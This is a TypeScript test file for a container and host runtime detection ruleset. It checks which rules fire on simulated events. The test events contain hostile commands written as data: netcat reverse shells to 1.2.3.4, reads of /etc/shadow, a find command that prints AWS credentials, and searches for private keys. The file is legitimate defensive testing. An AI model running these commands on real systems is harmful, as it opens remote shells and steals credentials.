import { describe, expect, test } from 'bun:test'
import { commonFields, knownLists, knownMacros, knownRules } from './names.ts'
import type { ToyEvent } from './toy.ts'
import { firing, loadDefaultRules } from './toy.ts'

const outcome = loadDefaultRules()
const { ruleset } = outcome

describe('the default rules', () => {
  test('load without errors and warnings', () => {
    expect(outcome.results.map(({ errors, warnings, schemaWarnings }) => ({ errors, warnings, schemaWarnings }))).toEqual([
      { errors: [], warnings: [], schemaWarnings: [] },
    ])
    expect(outcome.unmet).toEqual([])
  })

  test('are the known ones', () => {
    expect(ruleset.rules.map(({ name }) => name).sort()).toEqual(knownRules.map(({ name }) => name).sort())
  })

  test.each(knownRules.map((rule) => [rule.name, rule] as const))('%s has its priority, tags and fields', (name, known) => {
    const rule = ruleset.rules.find((one) => one.name === name)
    expect({ priority: rule?.priority, tags: rule?.tags, isOn: rule?.enabled }).toEqual({
      priority: known.priority,
      tags: [...known.tags].sort(),
      isOn: true,
    })
    const shown = new Set([...(rule?.output.matchAll(/%([a-z0-9_.]+(\[[^\]]*\])?)/g) ?? [])].map((match) => match[1]))
    expect([...commonFields, ...known.fields].filter((field) => !shown.has(field))).toEqual([])
  })

  test.each([
    ['macros', knownMacros, ruleset.macros],
    ['lists', knownLists, ruleset.lists],
  ] as const)('have all known %s, and use all they have', (_, known, own) => {
    const names = new Set(own.map(({ name }) => name))
    expect(known.filter((name) => !names.has(name))).toEqual([])
    expect(own.filter(({ isUsed }) => !isUsed).map(({ name }) => name)).toEqual([])
  })
})

const host = { 'container.id': 'host' }
const inContainer = { 'container.id': '0123456789ab' }

const opened = { 'evt.type': 'openat', 'fd.num': 3, 'fd.typechar': 'f', 'proc.duration': 10_000_000_000n }
const read = { ...opened, 'evt.is_open_read': true, 'evt.is_open_write': false }
const written = { ...opened, 'evt.is_open_read': false, 'evt.is_open_write': true }
const spawned = { 'evt.type': 'execve', 'evt.rawres': 0, 'evt.res': 'SUCCESS', 'proc.tty': 0 }

function file(path: string): ToyEvent {
  const cut = path.lastIndexOf('/')
  return { 'fd.name': path, 'fd.nameraw': path, 'fd.directory': path.slice(0, cut) || '/', 'fd.filename': path.slice(cut + 1) }
}

function process(name: string, args = '', ancestors: readonly string[] = ['bash']): ToyEvent {
  return {
    'proc.name': name,
    'proc.exe': name,
    'proc.exepath': `/usr/bin/${name}`,
    'proc.args': args,
    'proc.cmdline': args === '' ? name : `${name} ${args}`,
    'proc.cwd': '/',
    'proc.pname': ancestors[0],
    'proc.aname': ancestors,
    ...Object.fromEntries(ancestors.map((ancestor, i) => [`proc.aname[${i + 1}]`, ancestor])),
  }
}

// What live tests cannot try, and what must not fire.
describe('a default rule', () => {
  test.each<[string, ToyEvent, string[]]>([
    [
      'a read of the old password file',
      { ...host, ...read, ...file('/etc/shadow-'), ...process('cat') },
      ['Read sensitive file untrusted'],
    ],
    ['a read of the group passwords', { ...host, ...read, ...file('/etc/gshadow'), ...process('cat') }, ['Read sensitive file untrusted']],
    [
      'a file opened by handle',
      { ...host, ...read, 'evt.type': 'open_by_handle_at', ...file('/etc/shadow'), ...process('x') },
      ['Read sensitive file untrusted'],
    ],
    ['a read that failed', { ...host, ...read, 'fd.num': -1, ...file('/etc/shadow'), ...process('cat') }, []],
    ['a write', { ...host, ...written, 'evt.arg[flags]': 'O_WRONLY', ...file('/etc/shadow'), ...process('ed') }, []],
    ['passwd', { ...host, ...read, ...file('/etc/shadow'), ...process('passwd') }, []],
    ['the daily copy', { ...host, ...read, ...file('/etc/shadow'), ...process('cp', '', ['passwd']) }, []],
    ['a process without a name', { ...host, ...read, ...file('/etc/shadow') }, []],
    [
      'a young server',
      { ...host, ...read, ...file('/etc/shadow'), ...process('dockerd'), 'proc.duration': 1_000_000_000n },
      ['Read sensitive file untrusted'],
    ],
    ['sshd', { ...host, ...read, ...file('/etc/shadow'), ...process('sshd') }, []],
    [
      'a log emptied by creat',
      { ...host, ...opened, 'evt.type': 'creat', ...file('/var/log/syslog'), ...process('x') },
      ['Clear Log Activities'],
    ],
    ['a log appended to', { ...host, ...written, 'evt.arg[flags]': 'O_WRONLY|O_APPEND', ...file('/var/log/syslog'), ...process('x') }, []],
    [
      'combined options of netcat',
      { ...inContainer, ...spawned, ...process('nc', '-lvpe 80 /bin/sh') },
      ['Netcat Remote Code Execution in Container'],
    ],
    [
      'netcat by another name',
      { ...inContainer, ...spawned, ...process('nc.traditional', '-e /bin/sh 1.2.3.4 80') },
      ['Netcat Remote Code Execution in Container'],
    ],
    ['a port scan', { ...inContainer, ...spawned, ...process('nc', '-nvz example.com 80') }, []],
    ['netcat through a proxy', { ...inContainer, ...spawned, ...process('nc', '-X connect -x proxy:80 example.com 22') }, []],
    ['netcat on the host', { ...host, ...spawned, ...process('nc', '-e /bin/sh 1.2.3.4 80') }, []],
    [
      'ncat',
      { ...inContainer, ...spawned, ...process('ncat', '--sh-exec /bin/sh 1.2.3.4 80') },
      ['Netcat Remote Code Execution in Container'],
    ],
    ['an execve that failed', { ...host, ...spawned, 'evt.rawres': -2, 'evt.res': 'ENOENT', ...process('bash', '', ['httpd']) }, []],
    ['fish below a server', { ...host, ...spawned, ...process('fish', '', ['httpd']) }, ['Run shell untrusted']],
    ['a shell below cron', { ...host, ...spawned, ...process('sh', '-c x', ['cron', 'httpd']) }, []],
    ['a known command line', { ...host, ...spawned, ...process('sh', '-c whoami', ['httpd']) }, []],
    ['a known command line with quotes', { ...host, ...spawned, ...process('sh', `-c node -e "require('nan')"`, ['httpd']) }, []],
    [
      'a shell of postgres for its backup',
      { ...host, ...spawned, ...process('sh', '-c envdir "/run/etc/wal-e.d/env" wal-g wal-push x', ['postgres']) },
      [],
    ],
    [
      'an argv[0] that lies',
      { ...host, ...spawned, ...process('x'), 'proc.exe': 'ls', 'proc.exepath': '/dev/shm/x' },
      ['Execution from /dev/shm'],
    ],
    ['a script there', { ...host, ...spawned, ...process('sh', '/dev/shm/x.sh') }, ['Execution from /dev/shm']],
    ['a look at it', { ...host, ...spawned, ...process('ls', '/dev/shm/') }, []],
    ['a helper of sshd', { ...host, ...spawned, ...process('sshd-auth', '', ['sshd-session', 'sshd']), 'user.name': 'sshd' }, []],
    ['a search with ripgrep', { ...host, ...spawned, ...process('rg', 'BEGIN OPENSSH PRIVATE') }, ['Search Private Keys or Passwords']],
    ['a read by find', { ...host, ...spawned, ...process('find', '/ -path */.aws/credentials -exec cat {} ;') }, ['Find AWS Credentials']],
    [
      'registers on arm64',
      { ...host, 'evt.type': 'ptrace', 'evt.arg[request]': 'PTRACE_SETREGSET', ...process('x') },
      ['PTRACE attached to process'],
    ],
    ['a look at registers', { ...host, 'evt.type': 'ptrace', 'evt.arg[request]': 'PTRACE_GETREGS', ...process('x') }, []],
    [
      'a terminal of crun',
      { ...inContainer, ...spawned, ...process('sh', '', ['crun']), 'proc.tty': 34816 },
      ['Terminal shell in container'],
    ],
    ['a shell without a terminal', { ...inContainer, ...spawned, ...process('sh', '', ['runc']) }, []],
    ['a shell in a terminal', { ...inContainer, ...spawned, ...process('sh', '', ['bash']), 'proc.tty': 34816 }, []],
    ['runc itself', { ...host, ...spawned, ...process('6', 'init', ['runc']), 'proc.is_exe_from_memfd': true }, []],
  ])('on %s', (_, event, rules) => {
    expect(firing(outcome, event)).toEqual(rules)
  })
})
